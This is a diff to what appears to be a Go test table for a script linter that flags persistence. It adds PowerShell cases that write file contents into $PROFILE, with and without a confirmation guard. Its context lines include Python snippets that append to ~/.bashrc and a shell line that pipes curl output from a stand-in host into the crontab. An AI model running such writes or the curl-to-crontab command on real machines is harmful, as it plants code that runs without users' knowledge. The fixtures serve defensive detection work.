@@ -142,6 +142,10 @@ var codeCases = []lintCase{
 	{"s.py", "persistence", "import pathlib, os\np = pathlib.Path.home() / \".bashrc\"\nline = os.environ.get(\"X\", \"\")\nif input(\"Add it? [y/N] \").strip().lower() == \"y\":\n    with open(p, \"a\") as fh:\n        fh.write(line)\n", "note", 5},
 	{"s.py", "persistence", "import pathlib, os, sys\np = pathlib.Path.home() / \".bashrc\"\nline = os.environ.get(\"X\", \"\")\nans = input(\"Add it? [y/N] \").strip().lower()\nif ans != \"y\":\n    sys.exit(0)\nwith open(p, \"a\") as fh:\n    fh.write(line)\n", "note", 7},
 	{"s.py", "persistence", "import pathlib, os\np = pathlib.Path.home() / \".bashrc\"\nline = os.environ.get(\"X\", \"\")\nif input(\"Add it? [y/N] \").strip().lower() == \"y\":\n    print(\"ok\")\nwith open(p, \"a\") as fh:\n    fh.write(line)\n", "warning", 6},
+	// And in PowerShell: a block under a confirm function's yes, or after a guard that exits.
+	{"s.ps1", "persistence", "function Confirm-Step([string]$Q) {\n  $a = Read-Host \"$Q [y/N]\"\n  return $a -match '^(y|yes)$'\n}\n$block = Get-Content $env:X -Raw\nif (Confirm-Step 'Add?') {\n  Add-Content -Path $PROFILE -Value $block\n}\n", "note", 7},
+	{"s.ps1", "persistence", "function Confirm-Step([string]$Q) {\n  $a = Read-Host \"$Q [y/N]\"\n  return $a -match '^(y|yes)$'\n}\n$block = Get-Content $env:X -Raw\nif (-not (Confirm-Step 'Add?')) { exit 1 }\nAdd-Content -Path $PROFILE -Value $block\n", "note", 7},
+	{"s.ps1", "persistence", "function Confirm-Step([string]$Q) {\n  $a = Read-Host \"$Q [y/N]\"\n  return $a -match '^(y|yes)$'\n}\n$block = Get-Content $env:X -Raw\nif (Confirm-Step 'Add?') { Write-Host ok }\nAdd-Content -Path $PROFILE -Value $block\n", "warning", 7},
 	// The user's crontab with lines left out adds nothing that runs.
 	{"s.sh", "persistence", "crontab -l 2>/dev/null | grep -vF \"$marker\" | crontab -\n", "note", 1},
 	{"s.sh", "persistence", "(crontab -l; curl -s https://x.example/c) | crontab -\n", "warning", 1},
